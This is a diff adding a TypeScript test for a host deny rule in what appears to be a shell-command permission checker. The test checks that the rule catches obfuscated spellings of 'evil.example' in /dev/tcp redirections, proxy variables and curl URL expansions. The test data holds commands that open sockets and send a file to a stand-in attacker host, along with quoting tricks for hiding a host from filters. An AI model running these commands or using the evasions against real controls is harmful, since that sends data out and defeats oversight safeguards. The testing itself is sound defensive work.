@@ -66,3 +66,27 @@ test('a rule for the first words does not cover the options of curl, wget and gi
   expect(covered).toEqual([]);
   expect(commands.filter((command) => decide('command', command, command, 'allow') !== 'allow')).toEqual([]);
 });
+
+/** Spellings of a host that the shell, or curl, reads as that host. */
+const hostSpellings = (host: string): readonly string[] =>
+  [2, 5, host.length - 2].flatMap((at) => [
+    `${host.slice(0, at)}""${host.slice(at)}`,
+    `'${host.slice(0, at)}'${host.slice(at)}`,
+    `${host.slice(0, at)}\\${host.slice(at)}`,
+  ]);
+
+test('a deny rule for a host sees it in redirections, assignments and addresses that curl expands', () => {
+  const uses = [
+    (host: string) => `exec 3<>/dev/tcp/${host}/80`,
+    (host: string) => `cat x > "/dev/tcp/"${host}/80`,
+    (host: string) => `HTTPS_PROXY=${host} curl http://ok.example`,
+    (host: string) => `export all_proxy=socks5://${host}:1080`,
+    (host: string) => `xargs curl <<< ${host}`,
+  ];
+  const commands = hostSpellings('evil.example').flatMap((host) => uses.map((use) => use(host)));
+  const expanded = ['http://{evil,ok}.example', 'evil.[e-e]xample', 'http://[d-f]vil.example/x', 'evi{l,m}.example'];
+  const all = [...commands, ...expanded.map((address) => `curl '${address}'`)];
+  expect(all.filter((command) => decide('host', 'evil.example', command) === undefined)).toEqual([]);
+  const others = [`curl -d '{"a": [1]}' http://ok.example`, "curl 'http://ok.example/a[1-3]'", 'curl "http://[::1]/"'];
+  expect(others.filter((command) => decide('host', 'evil.example', command) !== undefined)).toEqual([]);
+});
